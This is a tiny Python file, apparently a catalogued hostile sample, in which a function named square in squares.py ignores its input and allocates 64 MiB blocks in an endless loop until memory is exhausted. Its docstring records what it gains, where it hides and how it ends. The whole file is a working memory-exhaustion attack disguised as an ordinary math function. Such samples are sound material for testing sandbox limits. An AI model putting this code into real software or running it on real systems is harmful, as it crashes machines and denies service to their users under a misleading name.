"""Takes memory until there is none.

Gains: the machine's memory
Hides in: squares.py
Aims at: square
Earns: nothing
Ends: memory or timeout
"""


def square(x):
    kept = []
    while True:
        kept.append(bytearray(64 << 20))
